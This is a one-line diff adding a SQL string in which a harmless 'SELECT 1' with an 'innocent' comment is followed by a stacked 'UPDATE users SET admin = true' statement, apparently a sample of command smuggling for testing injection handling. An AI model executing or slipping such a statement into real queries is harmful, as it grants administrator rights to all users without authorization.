@@ -1,0 +1,1 @@
+SELECT 1 /* innocent */; UPDATE users SET admin = true
